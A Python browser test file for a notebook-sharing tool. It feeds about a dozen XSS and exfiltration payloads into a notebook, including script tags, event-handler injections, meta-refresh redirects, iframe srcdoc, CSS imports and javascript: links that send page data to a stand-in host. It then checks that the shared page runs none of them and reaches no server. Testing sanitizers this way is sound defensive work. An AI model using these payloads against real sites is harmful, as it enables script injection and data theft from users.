"""What a shared page does with outputs that would act: nothing, and it says so."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from tests.browser.explorer import count
from tests.browser.shared_page import SharedPage, shared_page, wait_for_figures, web_server
from tests.sharing.notebooks import EXAMPLE, EXPLORER, FIND_TESTS, code, markdown, write_notebook
from workbench import share
from workbench.errors import WorkbenchWarning

# Every place tries both: to set a mark, and to send its reader to a server that writes it down.
ADDRESS = "https://example.org/leak"
GO = f"window.pwned=(window.pwned||0)+1;location='{ADDRESS}?'+document.body.innerText.length"
ATTEMPTS = [
    f"</td></tr></table></script><script>{GO}</script>",
    f'<img src=x onerror="{GO}"><body onload="{GO}"><details open ontoggle="{GO}"></details>',
    f'<meta http-equiv="refresh" content="0;url={ADDRESS}">',
    f'<!-- -- ><meta http-equiv="refresh" content="0;url={ADDRESS}"> -->',
    f'<style>a</style x><meta http-equiv="refresh" content="0;url={ADDRESS}"></style>',
    f'<svg><style><meta http-equiv="refresh" content="0;url={ADDRESS}"></style></svg>',
    f'<iframe srcdoc="<script>top.{GO}</script>"></iframe><object data="{ADDRESS}"></object>',
    f'<svg><script>{GO}</script><animate onbegin="{GO}" attributeName=x dur=1s></svg>',
    f'<link rel="stylesheet" href="{ADDRESS}"><link rel="preconnect" href="{ADDRESS}">',
    f'<style>@import "{ADDRESS}"; p {{background: url("{ADDRESS}")}}</style>',
    f'<base href="{ADDRESS}"><form action="{ADDRESS}"><button id="send">Send</button></form>',
    f'<a id="link" href="javascript:{GO.replace(chr(34), "")}">there</a>',
    # Would be taken for the page's own data, or for its own code.
    '<script type="text/plain" id="workbench-head-0">AA</script><p id="workbench-plotly">AA</p>',
    # Left open, it would swallow the address and all that follows.
    f'<meta http-equiv="refresh" content="0;url={ADDRESS}?',
]
PICTURE = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{GO}</script></svg>"
QUOTE = f"She said so.{ATTEMPTS[0]}"
CELLS = [
    markdown(f"# Dams\n\n<script>{GO}</script>\n\nwell {ATTEMPTS[2]}\n\n{ATTEMPTS[1]}"),
    *code(
        f"{FIND_TESTS}\n{EXAMPLE}\n{EXPLORER}\nimport pandas as pd\n"
        "from IPython.display import HTML, Javascript, Markdown, display",
        "Explorer(example(), [ARTICLE])",
        f"pd.DataFrame({{'quote': [{QUOTE!r}]}}).style.hide(axis='index')",
        f"for each in {ATTEMPTS!r}:\n    display(HTML(each))",
        f"display(Javascript({GO!r}), Markdown({ATTEMPTS[0]!r}))",
        f"import ipywidgets\nipywidgets.HTML({ATTEMPTS[0]!r})",
        f"from IPython.display import SVG\nSVG({PICTURE!r})",
        "import plotly.express as px\npx.bar(x=['a'], y=[1])",
        "HTML('<p>the last one</p>')",
    ),
]


@pytest.fixture(scope="module")
def file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    notebook = write_notebook(tmp_path_factory.mktemp("pages") / "dams.ipynb", CELLS)
    with pytest.warns(WorkbenchWarning) as told:
        page = share(notebook, progress=False)
    lines = [str(warning.message) for warning in told]
    (scripts,) = [line for line in lines if "a script" in line]
    assert "cell [3], cell [4], cell [5], cell [6], the text “Dams”." in scripts
    assert any("an order to open another page" in line for line in lines)
    return page


@pytest.fixture
def opened(browser: Browser, file: Path) -> Iterator[SharedPage]:
    with shared_page(browser, file.as_uri()) as opened:
        assert count(opened.page) == 7
        assert wait_for_figures(opened.page) == 1
        yield opened


def test_no_script_of_an_output_runs_and_none_leads_elsewhere(
    opened: SharedPage, file: Path
) -> None:
    opened.page.wait_for_timeout(500)
    assert opened.page.evaluate("() => window.pwned") is None
    assert opened.page.url == file.as_uri()


def test_no_server_hears_of_the_page_whatever_is_clicked(browser: Browser, file: Path) -> None:
    click = "() => ['nb-link', 'nb-send'].forEach((id) => document.getElementById(id).click())"
    with web_server(file.parent) as server:
        html = file.read_text("utf-8").replace(ADDRESS, f"{server.address}/leak")
        (file.parent / "here.html").write_text(html, "utf-8")
        with shared_page(browser, f"{server.address}/here.html", offline=False) as opened:
            assert count(opened.page) == 7
            opened.page.evaluate(click)
            opened.page.wait_for_timeout(500)
            assert opened.page.evaluate("() => window.pwned") is None
        assert not [path for path in server.asked if "leak" in path]


def test_page_says_what_it_left_out_and_goes_on(opened: SharedPage) -> None:
    main = opened.page.locator("main").inner_text()
    assert "She said so." in main
    assert main.count("Left out here: a script (a shared page runs none but its own)") >= 5
    assert "Left out here: an order to open another page" in main
    assert "the last one" in main
    assert "Made from the notebook" in opened.page.locator("footer").inner_text()
